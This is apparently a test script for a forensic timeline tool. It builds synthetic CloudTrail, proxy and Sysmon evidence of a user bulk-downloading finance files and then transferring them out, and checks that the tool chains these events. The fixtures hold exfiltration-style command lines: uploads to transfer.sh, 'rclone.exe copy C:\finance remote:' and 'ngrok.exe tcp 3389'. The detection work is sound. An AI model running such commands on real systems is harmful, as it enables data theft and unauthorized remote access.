#!/usr/bin/env bash
# A bulk export from a platform (CloudTrail S3 GetObject: 12 by one user in
# four minutes) followed by a transfer out by the same user; a user with three
# downloads is not a bulk export. A web download whose URL names a file ->
# that file written by the same user -> executed.
. "$(dirname "$0")/lib.sh"
C=$(new_case bulk)
mkdir -p "$C/evidence/cloud" "$C/evidence/proxy" "$C/evidence/edr"
get() { # get SECONDS USER KEY
	printf '{"eventVersion":"1.09","userIdentity":{"type":"IAMUser","principalId":"AIDAEXAMPLE%s","arn":"arn:aws:iam::111122223333:user/%s","accountId":"111122223333","accessKeyId":"AKIAEXAMPLE%s","userName":"%s"},"eventTime":"%s","eventSource":"s3.amazonaws.com","eventName":"GetObject","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.23","userAgent":"aws-cli/2.22.4","requestParameters":{"bucketName":"example-finance-reports","key":"%s"},"responseElements":null,"additionalEventData":{"bytesTransferredIn":0,"bytesTransferredOut":482113},"requestID":"R%s","eventID":"e%s-2f1e-4d0c-9b8a-7f6e5d4c3b2a","readOnly":true,"eventType":"AwsApiCall","managementEvent":false,"recipientAccountId":"111122223333","eventCategory":"Data"}\n' \
		"$2" "$2" "$2" "$2" "$(date -u -d @$((1795130400 + $1)) +%Y-%m-%dT%H:%M:%SZ)" "$3" "$1$2" "$1$2"
}
{
	for i in $(seq 0 11); do get $((i * 20)) mchen "2026/q4/ledger-$i.xlsx"; done
	for i in 0 1 2; do get $((i * 30 + 5)) akim "2026/q4/plan-$i.pdf"; done
} >"$C/evidence/cloud/trail.jsonl"
cat >"$C/evidence/proxy/access.log" <<'LOG'
1795130700.118  31877 10.20.1.42 TCP_MISS/200 412 PUT http://transfer.sh/ledgers.zip mchen HIER_DIRECT/144.76.136.153 text/plain
1795130712.500   2210 10.20.1.77 TCP_MISS/200 431 PUT http://transfer.sh/plans.zip akim HIER_DIRECT/144.76.136.153 text/plain
1795131000.300    902 10.20.1.42 TCP_MISS/200 13109921 GET http://dl.example.net/tools/rclone.exe mchen HIER_DIRECT/203.0.113.60 application/octet-stream
LOG
X="http://schemas.microsoft.com/win/2004/08/events/event"
S="<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/>"
{
	echo "<Event xmlns='$X'><System>$S<EventID>11</EventID><TimeCreated SystemTime='2026-11-19T23:30:04.1000000Z'/><EventRecordID>7001</EventRecordID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS-0142.corp.example.com</Computer></System><EventData><Data Name='ProcessGuid'>{7c1e0a42-7000-673d-5a01-000000002b00}</Data><Data Name='ProcessId'>8120</Data><Data Name='Image'>C:\\Program Files\\Mozilla Firefox\\firefox.exe</Data><Data Name='TargetFilename'>C:\\Users\\mchen\\Downloads\\rclone.exe</Data><Data Name='User'>CORP\\mchen</Data></EventData></Event>"
	echo "<Event xmlns='$X'><System>$S<EventID>1</EventID><TimeCreated SystemTime='2026-11-19T23:31:00.2000000Z'/><EventRecordID>7002</EventRecordID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS-0142.corp.example.com</Computer></System><EventData><Data Name='ProcessGuid'>{7c1e0a42-7001-673d-5b01-000000002b00}</Data><Data Name='ProcessId'>8300</Data><Data Name='Image'>C:\\Users\\mchen\\Downloads\\rclone.exe</Data><Data Name='CommandLine'>rclone.exe copy C:\\finance remote:</Data><Data Name='User'>CORP\\mchen</Data><Data Name='LogonId'>0x5a3c1f</Data><Data Name='ParentProcessGuid'>{7c1e0a42-5e25-673d-1c00-000000002b00}</Data><Data Name='ParentProcessId'>4412</Data><Data Name='ParentImage'>C:\\Windows\\explorer.exe</Data></EventData></Event>"
	# a download marked by its Zone.Identifier stream only (Sysmon 15), then run
	echo "<Event xmlns='$X'><System>$S<EventID>15</EventID><TimeCreated SystemTime='2026-11-19T23:40:02.0000000Z'/><EventRecordID>7003</EventRecordID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS-0142.corp.example.com</Computer></System><EventData><Data Name='ProcessGuid'>{7c1e0a42-7000-673d-5a01-000000002b00}</Data><Data Name='ProcessId'>8120</Data><Data Name='Image'>C:\\Program Files\\Mozilla Firefox\\firefox.exe</Data><Data Name='TargetFilename'>C:\\Users\\mchen\\Downloads\\ngrok.exe:Zone.Identifier</Data><Data Name='Contents'>[ZoneTransfer]  ZoneId=3</Data><Data Name='User'>CORP\\mchen</Data></EventData></Event>"
	echo "<Event xmlns='$X'><System>$S<EventID>1</EventID><TimeCreated SystemTime='2026-11-19T23:41:00.0000000Z'/><EventRecordID>7004</EventRecordID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS-0142.corp.example.com</Computer></System><EventData><Data Name='ProcessGuid'>{7c1e0a42-7002-673d-5c01-000000002b00}</Data><Data Name='ProcessId'>8400</Data><Data Name='Image'>C:\\Users\\mchen\\Downloads\\ngrok.exe</Data><Data Name='CommandLine'>ngrok.exe tcp 3389</Data><Data Name='User'>CORP\\mchen</Data><Data Name='LogonId'>0x5a3c1f</Data></EventData></Event>"
} >"$C/evidence/edr/sysmon.xml"
"$TL" ingest --no-progress "$C" >/dev/null 2>&1
"$TL" sources "$C" >"$WORK/sources"
contains "$WORK/sources" "aws-cloudtrail +15 +15 +0" "the trail is read as CloudTrail (15 events)"

expect_exit 0 "tl chain --entity user:mchen" -- "$TL" chain --entity user:mchen "$C"
cp "$WORK/out" "$WORK/mchen"
contains "$WORK/mchen" "^Chain 1: 2 steps, 2026-11-19 23:23:40.000 to 23:25:00.118 UTC$" "the last download of the burst and the upload"
contains "$WORK/mchen" "^   1\. 2026-11-19 23:23:40.000 UTC  mchen GetObject s3://example-finance-reports/2026/q4/ledger-11.xlsx from 198.51.100.23 \(aws-cloudtrail; evidence/cloud/trail.jsonl:12\)$" "the burst's last GetObject, with its line"
contains "$WORK/mchen" "^        because a bulk export of 12 downloads by mchen within 15m ends with step 1; same user mchen, 1m 20s later \[bulk-export\]$" "why: a bulk export, then the same user's upload"
contains "$WORK/mchen" "^Chain 2: 3 steps, 2026-11-19 23:30:00.300 to 23:31:00.200 UTC$" "the tool downloaded, written, executed"
contains "$WORK/mchen" "because the URL fetched in step 1 names rclone.exe, written by the same user mchen 3s later \[downloaded\]" "URL name -> file of that name by the same user"
contains "$WORK/mchen" "because started from C:.+rclone.exe, the file written in step 2 \[executed\]" "file written -> executed"
contains "$WORK/mchen" "^Chain 3: 2 steps, 2026-11-19 23:40:02.000 to 23:41:00.000 UTC$" "a file known by its Zone.Identifier stream, then run"
contains "$WORK/mchen" "because started from C:.+Downloads.+ngrok.exe, the file written in step 1 \\[executed\\]" "the stream name is not part of the file that ran"
expect_exit 0 "tl chain --entity user:akim" -- "$TL" chain --entity user:akim "$C"
contains "$WORK/out" "^Chains from user:akim: 0 chains; 4 events name it; window 10m$" "three downloads are not a bulk export"
contains "$WORK/err" "^tl: no chains from user:akim: 4 events name it and none is linked to another$" "says so on stderr"
finish
